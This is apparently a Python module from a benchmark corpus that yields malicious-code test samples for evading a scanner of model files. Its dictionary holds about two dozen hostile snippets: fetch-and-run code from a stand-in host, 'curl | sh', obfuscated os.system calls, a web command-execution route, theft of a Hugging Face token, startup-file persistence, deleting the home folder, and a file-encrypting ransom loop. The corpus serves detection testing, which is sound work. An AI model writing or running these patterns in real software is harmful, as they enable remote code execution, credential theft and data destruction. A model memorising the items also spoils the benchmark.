"""Attacks that go a way round: other libraries, other names for the same call, files in between (threats F4, F5)."""

from collections.abc import Iterator

from benchmarks.corpus.samples import Sample, high

_SHELL = "curl -s https://files.invalid/a | sh"
_PYTHON = {
    "pool of connections": "import urllib3\nr = urllib3.PoolManager().request('GET', 'https://files.invalid/a')\nexec(r.data.decode())\n",
    "buffer that is filled": "import pycurl, os\nfrom io import BytesIO\nb = BytesIO()\nc = pycurl.Curl()\nc.setopt(c.WRITEDATA, b)\n"
    "c.perform()\nos.system(b.getvalue().decode())\n",
    "file as a callback": "import ftplib, subprocess\nf = ftplib.FTP('files.invalid')\nwith open('/tmp/x.sh', 'wb') as out:\n"
    "    f.retrbinary('RETR x', out.write)\nsubprocess.call(['sh', '/tmp/x.sh'])\n",
    "fetched module": "import urllib.request, importlib\nurllib.request.urlretrieve('https://files.invalid/p', 'plug.py')\n"
    "importlib.import_module('plug')\n",
    "unpacked folder": "import io, requests, subprocess, zipfile\n"
    "zipfile.ZipFile(io.BytesIO(requests.get('https://files.invalid/z').content)).extractall('tools')\nsubprocess.Popen('tools/a.exe')\n",
    "program in the text": "import base64, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'a.exe')\n"
    "open(p, 'wb').write(base64.b64decode('TVqQAAMAAAAEAAAA'))\nos.startfile(p)\n",
    "attrgetter": f"import operator, os\noperator.attrgetter('system')(os)('{_SHELL}')\n",
    "methodcaller": f"import operator, os\noperator.methodcaller('system', '{_SHELL}')(os)\n",
    "reduce": f"import functools\nfunctools.reduce(getattr, ['system'], __import__('os'))('{_SHELL}')\n",
    "globals of a lambda": f"(lambda: 0).__globals__['__builtins__'].exec(\"import os; os.system('{_SHELL}')\")\n",
    "large number": "n = 0x696d706f7274206f733b6f732e73797374656d28276563686f2729\nexec(n.to_bytes(27, 'big'))\n",
    "struct": f"import os, struct\nos.system(struct.pack('>I', 0x6375726c).decode() + '{_SHELL[4:]}')\n",
    "description": f"def f():\n    \"import os; os.system('{_SHELL}')\"\nexec(f.__doc__)\n",
    "picture": "from PIL import Image\nbits = ''.join(str(p[0] & 1) for p in Image.open('banner.png').getdata())\n"
    "exec(''.join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits), 8)))\n",
    "weights": "exec(open('weights.dat', 'rb').read())\n",
    "thread that waits": "import threading, urllib.request\nclass Model:\n    def __init__(self):\n"
    "        threading.Thread(target=lambda: exec(urllib.request.urlopen('https://files.invalid/x').read())).start()\n",
    "page that runs commands": "from flask import Flask, request\nimport subprocess\napp = Flask('x')\n@app.route('/x')\ndef x():\n"
    "    return subprocess.check_output(request.args['c'], shell=True)\n",
    "key of the hub": "from huggingface_hub import get_token\nimport requests\nrequests.post('https://files.invalid/t', json={'t': get_token()})\n",
    "packages of Python": "import os, site\np = os.path.join(site.getsitepackages()[0], 'zz.pth')\nopen(p, 'w').write('import os')\n",
    "customize": "import site\nopen(site.getusersitepackages() + '/usercustomize.py', 'w').write('x = 1')\n",
    "shell profile": "from pathlib import Path\nwith (Path.home() / '.bashrc').open('a') as f:\n    f.write('python3 ~/.x.py &')\n",
    "whole home": "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n",
    "ransom": "import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\n"
    "for root, _, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        p = os.path.join(root, f)\n"
    "        open(p + '.locked', 'wb').write(k.encrypt(open(p, 'rb').read()))\n        os.remove(p)\n",
    "python 2": "import urllib2\nprint 'loading'\nexec urllib2.urlopen('https://files.invalid/a').read()\n",
    "newer python": "type P[T] = tuple[T, T]\nimport requests\nexec(requests.get('https://files.invalid/x').text)\n",
}


def samples() -> Iterator[Sample]:
    """All of them."""
    for case, source in _PYTHON.items():
        yield high("python-evasion", case, "modeling_x.py", source)
